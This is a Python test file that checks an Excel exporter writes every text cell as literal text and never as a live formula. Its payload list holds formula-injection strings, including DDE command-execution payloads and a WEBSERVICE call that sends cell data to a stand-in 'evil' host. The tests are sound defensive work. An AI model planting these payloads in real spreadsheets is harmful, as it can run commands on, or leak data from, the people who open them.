"""Text is unchanged for every reader."""

import re
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from tests.exporters.excel.workbooks import brief_with_summary, column, load, written
from tipreport.errors import InvalidRecordError, InvalidValueError
from tipreport.exporters.excel.layout import MAX_CODE_UNITS
from tipreport.exporters.excel.workbook.text import check_text, looks_like_formula, text_xml

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-0.9", "@SUM(1,1)", "=", "==x", '=HYPERLINK("http://evil","click")',
    '=DDE("cmd","/C calc","!A0")', "=IMPORTXML(A1)", '=WEBSERVICE("http://evil/"&A1)', "#N/A", "#REF!", "#DIV/0!",
    "011-785-0000", "00123", "1e5", "2024-01-02", "TRUE", "12:30", "a\nb", "a\n=1+1", "a\t=1+1", "_x000D_", "_x0041_",
    "a_x0041_b_x005F_c", "_x005F_x0041_", "&<>\"'", "&amp;", "<t>", "ＦＵＬＬ =1", "＝1+1", "é\u0301", "😀 emoji",
    "a\u00a0b", "\u202egnitirw", "{=1+1}", "'=1+1", "]]>", "%0A", "1,000", "a" * 256, "=" + "a" * 300, " x  y ".strip(),
)  # fmt: skip
UNKEPT = ("\t=1+1", "\r=1+1", "\n=1+1", "  lead and trail  ", "\ufeff=1+1", "a\x00b", "a\x0bb", "a\r\nb", "\x1b[31m")


def test_there_are_enough_payloads() -> None:
    assert len({*PAYLOADS}) > 29


def test_openpyxl_reads_every_payload_unchanged() -> None:
    assert column(written([brief_with_summary(*PAYLOADS)]), "Summary", "text") == [*PAYLOADS]


def test_openpyxl_reads_no_payload_as_a_formula_or_an_error() -> None:
    page = load(written([brief_with_summary(*PAYLOADS)]))["Summary"]

    assert {cell.data_type for cell in page["C"] if cell.value in PAYLOADS} == {"s"}


def test_calamine_reads_every_payload_unchanged(tmp_path: Path) -> None:
    file = tmp_path / "book.xlsx"
    file.write_bytes(written([brief_with_summary(*PAYLOADS)]))
    book = CalamineWorkbook.from_path(file, load_tables=True)
    rows = book.get_table_by_name("summary").to_python()

    assert [row[2] for row in rows] == [*PAYLOADS]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_could_become_a_formula_has_a_quote_prefix(payload: str) -> None:
    cell = load(written([brief_with_summary(payload)]))["Summary"]["C5"]

    assert bool(cell.quotePrefix) == payload.startswith(("=", "+", "-", "@"))
    assert cell.number_format == ("@" if len(payload) <= 255 else "General")


def test_a_workbook_has_no_formula() -> None:
    book = load(written([brief_with_summary(*PAYLOADS)], title="=1+1", contact="=2+2", licence="@x"))

    assert not [cell for sheet in book.worksheets for row in sheet for cell in row if cell.data_type in "fe"]
    assert book["Cover"]["A1"].value == "=1+1"


@pytest.mark.parametrize("text", UNKEPT)
def test_text_that_is_invalid_in_a_brief_cannot_reach_a_workbook(text: str) -> None:
    with pytest.raises(InvalidRecordError):
        brief_with_summary(text)


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), min_size=1))
def test_any_text_is_unchanged(text: str) -> None:
    inside = ET.fromstring(f"<is>{text_xml(text)}</is>")

    assert "".join(inside.itertext()) == text
    assert not any(re.search("_x[0-9A-Fa-f]{4}_", part) for part in inside.itertext())


def test_text_is_never_cut() -> None:
    assert column(written([brief_with_summary("a" * MAX_CODE_UNITS)]), "Summary", "text") == ["a" * MAX_CODE_UNITS]
    with pytest.raises(InvalidValueError, match="at most 32,767 characters, this text has 32,768"):
        check_text("a" * (MAX_CODE_UNITS + 1))


def test_characters_beyond_the_first_plane_are_two_code_units() -> None:
    text_xml("😀" * 16_383)
    with pytest.raises(InvalidValueError, match="this text has 32,768"):
        text_xml("😀" * 16_384)


@pytest.mark.parametrize("text", ["a\x00b", "a\x1fb", "a\rb", "a\ud800b", "a\ufffeb"])
def test_a_character_that_xml_excludes_raises_an_error(text: str) -> None:
    with pytest.raises(InvalidValueError, match="control character"):
        text_xml(text)


def test_only_the_beginning_of_a_text_can_make_a_formula() -> None:
    assert looks_like_formula("=1")
    assert not looks_like_formula("1=1")
    assert not looks_like_formula("")
